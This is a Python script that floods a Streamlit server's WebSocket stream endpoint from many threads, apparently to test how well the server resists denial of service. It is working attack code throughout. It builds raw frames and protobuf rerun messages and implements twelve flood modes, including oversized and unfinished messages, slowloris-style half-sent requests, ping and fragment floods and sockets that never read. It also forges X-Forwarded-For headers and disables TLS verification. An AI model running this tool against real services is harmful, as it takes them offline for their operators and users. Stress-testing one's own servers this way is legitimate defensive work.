"""A flood of WebSockets, in a process of its own: `python flood.py URL KIND SOCKETS SECONDS`.

Sockets are raw and their frames are built once, so that the attacker costs little of the machine it shares with its
victim. FLOOD_ADDRESS is where a proxy on this machine says it comes from. At the end it writes how many sockets were
opened, refused and closed.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from contextlib import suppress
from urllib.parse import urlsplit

# BackMsg { rerun_script { query_string: "", page_name: "", context_info {} } }, as Streamlit's page sends it
_TINY_RERUN = bytes.fromhex("5a021200")


def _large_rerun(size: int) -> bytes:
    """A rerun with one widget state of this size, for a widget that no page has."""
    value = b"x" * size
    state = _field(1, b"$$ID-0123456789abcdef-nobody") + _field(6, value)
    return _field(11, _field(2, _field(1, state)))


def _field(number: int, content: bytes) -> bytes:
    return bytes([number << 3 | 2]) + _varint(len(content)) + content


def _varint(value: int) -> bytes:
    found = b""
    while value > 0x7F:
        found, value = found + bytes([value & 0x7F | 0x80]), value >> 7
    return found + bytes([value])


def _frame(content: bytes, opcode: int = 2, *, final: bool = True) -> bytes:
    """A client's frame whose mask is all zeros (RFC 6455 §5.2)."""
    first = (0x80 if final else 0) | opcode
    if len(content) < 126:
        head = struct.pack("!BB", first, 0x80 | len(content))
    elif len(content) < 65536:
        head = struct.pack("!BBH", first, 0x80 | 126, len(content))
    else:
        head = struct.pack("!BBQ", first, 0x80 | 127, len(content))
    return head + bytes(4) + content


_RERUN = _frame(_TINY_RERUN)
# kind: what a socket says at once, and what it then repeats
_KINDS = {
    "reruns": (b"", _RERUN * 2000),
    "large-messages": (b"", lambda: _frame(_large_rerun(24_000_000))),
    "unfinished-messages": (lambda: _frame(_large_rerun(24_000_000))[:24_000_000], b""),
    "reconnecting": (_RERUN * 3, b""),
    "flapping": (b"", b""),
    "never-reading": (_RERUN * 25, b""),
    "pings": (b"", _frame(b"", 9) * 5000),
    "fragments": (_frame(b"", 2, final=False), _frame(b"", 0, final=False) * 5000),
    "texts": (b"", _frame(b"hello", 1)),
    "garbage": (b"", _frame(b"\xff" * 100)),
    "silent": (b"", b""),
    "unfinished-requests": (b"", b""),
}


class Flood:
    """So many sockets, each opened anew as soon as it is closed."""

    def __init__(self, url: str, kind: str, seconds: float, address: str) -> None:
        where = urlsplit(url)
        self._host, self._port = where.hostname or "", where.port or 443
        self._origin, self._address = url, address
        # an attacker trusts anybody
        self._tls = ssl._create_unverified_context() if where.scheme == "https" else None  # noqa: S323
        self._kind = kind
        self._first, self._then = (part() if callable(part) else part for part in _KINDS[kind])
        self._until = time.monotonic() + seconds
        self._lock = threading.Lock()
        self.seen: Counter[str] = Counter()

    def run(self) -> None:
        """One socket after the other, until the time is over."""
        while time.monotonic() < self._until:
            try:
                self._one()
            except OSError:
                self._count("closed")

    def _one(self) -> None:
        with socket.create_connection((self._host, self._port), timeout=5) as line:
            if self._kind == "never-reading":
                line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            talk = self._tls.wrap_socket(line, server_hostname="localhost") if self._tls else line
            with talk:
                self._talk(talk)

    def _talk(self, line: socket.socket) -> None:
        if self._kind == "unfinished-requests":
            line.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ")
            self._count("opened")
            self._wait(line)
            return
        if b" 101 " not in self._shake_hands(line):
            self._count("refused")
            return
        self._count("opened")
        line.sendall(self._first)
        if self._kind == "flapping":
            return
        if self._kind == "reconnecting":
            line.recv(65536)
        elif self._kind == "never-reading":
            self._wait(None)
        elif self._then:
            while time.monotonic() < self._until:
                line.sendall(self._then)
                self._count("sent", len(self._then))
        else:
            self._wait(line)

    def _shake_hands(self, line: socket.socket) -> bytes:
        proxy = f"X-Forwarded-For: {self._address}\r\n" if self._address else ""
        line.settimeout(60)
        line.sendall(
            f"GET /_stcore/stream HTTP/1.1\r\nHost: {self._host}:{self._port}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
            f"Origin: {self._origin}\r\n{proxy}Sec-WebSocket-Protocol: streamlit\r\n\r\n".encode()
        )
        return line.recv(4096)

    def _wait(self, line: socket.socket | None) -> None:
        """Until the other side closes, or the time is over."""
        while (left_s := self._until - time.monotonic()) > 0:
            if line is None:
                time.sleep(min(left_s, 0.2))
                continue
            line.settimeout(left_s)
            if not line.recv(65536):
                self._count("closed")
                return

    def _count(self, what: str, many: int = 1) -> None:
        with self._lock:
            self.seen[what] += many


def main(url: str, kind: str, sockets: str, seconds: str) -> None:
    """Attack, then tell."""
    flood = Flood(url, kind, float(seconds), os.environ.get("FLOOD_ADDRESS", ""))
    threads = [threading.Thread(target=flood.run, daemon=True) for _ in range(int(sockets))]
    for thread in threads:
        thread.start()
    for thread in threads:
        with suppress(KeyboardInterrupt):
            thread.join(float(seconds) + 10)
    print(json.dumps(flood.seen), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
